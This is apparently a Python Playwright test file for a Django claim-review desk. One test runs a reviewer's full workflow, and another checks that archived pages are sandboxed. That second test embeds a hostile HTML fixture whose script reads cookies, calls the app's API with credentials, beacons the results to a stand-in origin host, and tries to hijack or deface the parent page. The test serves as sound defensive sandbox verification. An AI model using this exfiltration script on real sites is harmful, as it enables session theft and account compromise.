"""End to end in real headless Chromium (Debian's `chromium`, driven by Playwright's sync API):
the reviewer's day on the desk, and the sandbox around archived pages.

Real parts only: the live Django server (pytest-django's `live_server`), a real Celery worker
process archiving from a local HTTP origin (`celery_worker_proc`, tests/worker.py), and the
browser. Set REEX_SCREENSHOTS=docs to write docs/queue.png and docs/claim.png.
"""

from __future__ import annotations

import os
import threading
import time
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from werkzeug import Request, Response

from claims.models import Claim, Evidence, StatusChange
from claims.services.classification import evidence_classify_publisher
from claims.services.evidence import evidence_attach
from claims.services.status import claim_take
from sources.models import Snapshot
from tests.factories import ClaimFactory, EvidenceFactory, SnapshotFactory, UserFactory
from tests.test_queue_views import build_world
from tests.worker import wait_for

# Playwright's sync API runs an event loop in this thread; Django's ORM calls made by the test
# between browser steps are synchronous and safe here.
os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"] = "true"

pytestmark = [pytest.mark.browser, pytest.mark.worker, pytest.mark.django_db(transaction=True)]

CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-dev-shm-usage",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
PASSWORD = "correct horse battery staple"
ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        browser = pw.chromium.launch(
            executable_path=os.environ.get("REEX_CHROMIUM", "/usr/bin/chromium"),
            args=CHROMIUM_ARGS,
        )
        yield browser
        browser.close()


@pytest.fixture
def page(browser):
    context = browser.new_context(viewport={"width": 1366, "height": 900})
    context.set_default_timeout(15_000)
    page = context.new_page()
    yield page
    context.close()


def sign_in(page, live_server, username: str) -> None:
    page.goto(live_server.url + "/")
    assert "/accounts/login/" in page.url  # anonymous: sent to sign in
    page.get_by_label("User name").fill(username)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url(live_server.url + "/")


def screenshot(page, name: str) -> None:
    folder = os.environ.get("REEX_SCREENSHOTS")
    if folder:
        target = ROOT / folder / name
        target.parent.mkdir(parents=True, exist_ok=True)
        # Grow the viewport to the page instead of `full_page=True`: a full-page capture leaves
        # sandboxed (out-of-process) frames blank.
        size = page.viewport_size
        height = page.evaluate("document.documentElement.scrollHeight")
        page.set_viewport_size({"width": size["width"], "height": height})
        page.evaluate("window.scrollTo(0, 0)")
        page.wait_for_timeout(500)
        page.screenshot(path=str(target))
        page.set_viewport_size(size)


REPORT = """<!doctype html><html><head><title>Northern Rare Earth profit soars</title>
<meta name="author" content="Desk reporter"></head><body><article>
<h1>Northern Rare Earth profit soars</h1>
<p>China Northern Rare Earth reported that net profit rose 1,882.5% in the first half, to
931 million yuan, according to figures reviewed by our newsroom.</p>
<p>Our analysts checked the filing against industry output data and price series.</p>
</article></body></html>"""


def test_reviewer_takes_attaches_watches_archive_and_decides(
    page, live_server, celery_worker_proc, origin, settings
):
    settings.REEX_MIN_INDEPENDENT_SOURCES = 1
    world = build_world()
    reviewer = UserFactory(username="rita", groups=["reviewer"])
    editor = UserFactory(username="ed", groups=["editor"])
    # A few more claims so the queue looks like a working day.
    other = ClaimFactory(
        article=world.claim.article,
        origin=world.northern,
        key="output",
        span="Rare earth metals output jumped 60.4% year-on-year",
        restatement="Rare earth metals output rose 60.4% year-on-year",
        figures=[{"value": 60.4, "unit": "%"}],
    )
    EvidenceFactory(
        claim=other,
        url="https://www.usgs.gov/mis-2025",
        publisher=world.usgs,
        snapshot=SnapshotFactory(failed=True, url="https://www.usgs.gov/mis-2025"),
    )
    EvidenceFactory(
        claim=other, url="https://xinhuanet.com/nre-output", publisher=world.xinhua, stance="echoes"
    )
    taken = ClaimFactory(
        article=world.claim.article,
        origin=world.northern,
        key="report",
        span="released its half-year report",
        restatement="Northern Rare Earth released its H1 2025 report",
        kind=Claim.Kind.EVENT,
        figures=[],
    )
    claim_take(claim=taken, actor=UserFactory(username="rob", groups=["reviewer"]))

    # The origin holds its answer until the test lets it go, so the page is seen pending first.
    release_origin = threading.Event()

    def report(request: Request) -> Response:
        release_origin.wait(30)
        return Response(REPORT, content_type="text/html; charset=utf-8")

    origin.expect_request("/nre-h1").respond_with_handler(report)
    source_url = origin.url_for("/nre-h1")

    # Sign in; the queue lists the claim with its status and counts.
    sign_in(page, live_server, "rita")
    row = page.locator(f"#claim-{world.claim.pk}")
    assert "Net profit rose 1,882.5% in H1 2025" in row.inner_text()
    assert "Taken by rob" in page.locator(f"#claim-{taken.pk}").inner_text()
    assert "1 failed snapshot" in page.locator(f"#claim-{other.pk}").inner_text()
    # Keyboard: j selects the first row, j again the second.
    page.keyboard.press("j")
    page.keyboard.press("j")
    assert page.locator("[data-row].selected").get_attribute("id") == f"claim-{other.pk}"
    screenshot(page, "queue.png")

    # Take it: assigned to rita and in review.
    row.get_by_role("button", name=f"Take claim #{world.claim.pk}").click()
    page.wait_for_url(f"{live_server.url}/claims/{world.claim.pk}/")
    assert "You are reviewing this claim" in page.inner_text(".holder")
    world.claim.refresh_from_db()
    assert (world.claim.assignee_id, world.claim.status) == (reviewer.pk, "in_review")
    assert page.locator("mark").inner_text().startswith("net profit rose 1,882.5%")

    # Attach the source with the keyboard: `a` focuses the URL field.
    page.evaluate("window.__sameDocument = 'yes'")
    page.keyboard.press("a")
    page.keyboard.type(source_url)
    page.get_by_label("Stance").select_option("supports")
    page.get_by_label("Excerpt (optional)").fill("net profit rose 1,882.5% in the first half")
    page.get_by_role("button", name="Attach and archive").click()
    evidence = wait_for(
        lambda: Evidence.objects.filter(claim=world.claim).first(), what="the evidence row"
    )
    item = page.locator(f"#evidence-{evidence.pk}")
    item.wait_for()
    assert item.locator(".snapshot").inner_text().strip().startswith(("Waiting", "Archiving"))
    panel = page.locator("#suggestion-panel")
    assert "No suggestion yet" in panel.inner_text()

    # An editor classifies the unknown publisher (an IP-literal URL) while it is archiving.
    evidence_classify_publisher(evidence=evidence, entity=world.reuters, actor=editor)
    release_origin.set()

    # The snapshot becomes archived in place, without reloading the page ...
    item.locator(".snapshot-archived").wait_for(timeout=45_000)
    assert "Northern Rare Earth profit soars" in item.inner_text()
    assert page.evaluate("window.__sameDocument") == "yes"
    assert Snapshot.objects.get(pk=evidence.snapshot_id).status == Snapshot.Status.ARCHIVED
    # ... and the suggestion panel reloads itself with the new evidence counted.
    page.wait_for_function(
        "document.querySelector('#suggestion-panel').innerText.includes('Independently verified')"
    )
    assert "1 independent group" in panel.inner_text()
    assert "badge-independent" in (item.get_attribute("class") or "")
    assert page.evaluate("window.__sameDocument") == "yes"
    item.locator("details.archive summary").click()
    archived = page.frame_locator(f"#evidence-{evidence.pk} details.archive iframe")
    archived.get_by_text("Our analysts checked the filing").wait_for()
    screenshot(page, "claim.png")

    # A verdict the rule does not support is refused with reasons; what was typed stays.
    page.keyboard.press("d")
    page.get_by_label("Verdict").select_option("disputed")
    rationale = "Reuters confirms the 1,882.5% rise from the filing; the archive has the copy."
    page.get_by_label("Rationale").fill(rationale)
    page.get_by_role("button", name="Record verdict").click()
    page.locator("#decision-section .flash-error").wait_for()
    assert "Refused" in page.inner_text("#decision-section")
    assert page.get_by_label("Rationale").input_value() == rationale
    assert page.evaluate("window.__sameDocument") == "yes"

    # The suggested verdict goes through, and the audit trail shows it.
    page.get_by_label("Verdict").select_option("independently_verified")
    page.get_by_role("button", name="Record verdict").click()
    page.wait_for_url(f"{live_server.url}/claims/{world.claim.pk}/?decided=*#audit")
    audit = page.locator("#audit .audit-row").first
    assert "Independently verified" in audit.inner_text()
    assert rationale in audit.inner_text()
    assert "rita" in audit.inner_text()
    world.claim.refresh_from_db()
    assert world.claim.status == "independently_verified"
    assert (
        StatusChange.objects.filter(claim=world.claim, to_status="independently_verified").count()
        == 1
    )


HOSTILE = """<!doctype html><html><head><title>Hostile page</title></head><body>
<p>Rare earth prices. Net profit rose 1,882.5% in the first half.</p>
<script>
(function () {
  var origin = "ORIGIN";
  function beacon(kind, value) {
    new Image().src = origin + "/beacon?kind=" + kind + "&value=" + encodeURIComponent(value);
    try { navigator.sendBeacon(origin + "/beacon?kind=" + kind, String(value)); } catch (e) {}
  }
  var cookie;
  try { cookie = document.cookie; } catch (e) { cookie = "blocked: " + e.name; }
  beacon("cookie", cookie);
  fetch("/api/v1/claims/", {credentials: "include"})
    .then(function (r) { return r.text().then(function (t) { beacon("api", r.status + " " + t.slice(0, 300)); }); })
    .catch(function (e) { beacon("api-error", String(e)); });
  try { window.top.location.href = origin + "/pwned"; } catch (e) { beacon("top-error", e.name); }
  try { parent.document.body.innerHTML = "owned"; } catch (e) { beacon("parent-error", e.name); }
})();
</script></body></html>"""


def test_archived_page_scripts_cannot_reach_the_desk(
    page, live_server, celery_worker_proc, origin, settings
):
    world = build_world()
    UserFactory(username="rita", groups=["reviewer"])
    base = origin.url_for("/").rstrip("/")
    origin.expect_request("/hostile").respond_with_data(
        HOSTILE.replace("ORIGIN", base), content_type="text/html"
    )
    beacons: list[dict] = []

    def record(request: Request) -> Response:
        beacons.append(
            {
                "path": request.path,
                **{k: v[0] for k, v in parse_qs(request.query_string.decode()).items()},
            }
        )
        return Response("", status=204)

    origin.expect_request("/beacon").respond_with_handler(record)
    origin.expect_request("/pwned").respond_with_handler(record)

    evidence = evidence_attach(
        claim=world.claim, url=origin.url_for("/hostile"), stance="refutes", excerpt="", actor=None
    )
    wait_for(
        lambda: Snapshot.objects.filter(pk=evidence.snapshot_id, status="archived").exists(),
        timeout=45,
        what="the hostile page to be archived",
    )

    sign_in(page, live_server, "rita")
    api_responses: list[tuple[str, int]] = []
    page.on(
        "response",
        lambda r: api_responses.append((r.url, r.status)) if "/api/" in r.url else None,
    )
    page.goto(f"{live_server.url}/claims/{world.claim.pk}/")
    desk_url = page.url
    item = page.locator(f"#evidence-{evidence.pk}")
    item.locator("details.archive summary").click()
    frame_el = item.locator("details.archive iframe")
    frame_el.wait_for()
    sandbox = frame_el.get_attribute("sandbox")
    assert sandbox is not None and "allow-same-origin" not in sandbox
    assert "allow-top-navigation" not in sandbox
    time.sleep(3)  # give any script in the archived copy time to try

    # The desk page is where it was, untouched.
    assert page.url == desk_url, "the archived page navigated the top window"
    assert page.locator("#evidence-section").count() == 1
    assert page.evaluate("document.body.innerText.trim()") != "owned"
    # Nothing left the frame carrying the desk's cookies, and the desk's API gave it nothing.
    cookies = {c["name"]: c["value"] for c in page.context.cookies()}
    assert "sessionid" in cookies
    for b in beacons:
        assert b["path"] != "/pwned", "the archived page navigated the top window"
        value = b.get("value", "")
        assert cookies["sessionid"] not in value
        assert cookies.get("csrftoken", "<none>") not in value, "the archived page read a cookie"
        if b.get("kind") == "api":
            assert not value.startswith("200"), f"the archived page read the API: {value}"
    assert all(status != 200 for _, status in api_responses), api_responses
    # And the frame did show the archived copy (the test looked at a real, loaded page).
    frame = frame_el.element_handle().content_frame()
    assert frame is not None and frame.url != "about:blank"
    assert "Rare earth prices" in frame.content()

    # Opened on its own (top level), the archived body still runs sandboxed.
    content_url = frame.url
    beacons.clear()
    page.goto(content_url)
    time.sleep(2.5)
    for b in beacons:
        assert b["path"] != "/pwned"
        assert cookies["sessionid"] not in b.get("value", "")
        assert cookies.get("csrftoken", "<none>") not in b.get("value", "")
        if b.get("kind") == "api":
            assert not b.get("value", "").startswith("200")
    assert urlsplit(page.url).path == urlsplit(content_url).path
